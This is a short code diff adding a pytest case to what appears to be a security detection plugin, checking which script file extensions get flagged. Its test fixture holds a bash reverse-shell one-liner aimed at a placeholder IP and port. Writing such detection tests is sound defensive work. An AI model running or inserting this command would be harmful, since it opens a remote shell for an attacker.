@@ -60,6 +60,13 @@ def test_rules_are_parsed_once():
     assert load_rules(RULES) is load_rules(RULES)
 
 
+@pytest.mark.parametrize(("ending", "found"), [("sh", True), ("bash", True), ("ps1", False)])
+def test_what_a_shell_script_says_is_a_command_line(ending: str, found: bool) -> None:
+    text = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
+    told = PLUGIN.detect(alert(kind="script", ext=ending, text=text)).signals
+    assert bool([signal for signal in told if signal.noteworthy]) is found
+
+
 @pytest.mark.parametrize(
     ("detection", "value", "expected"),
     [
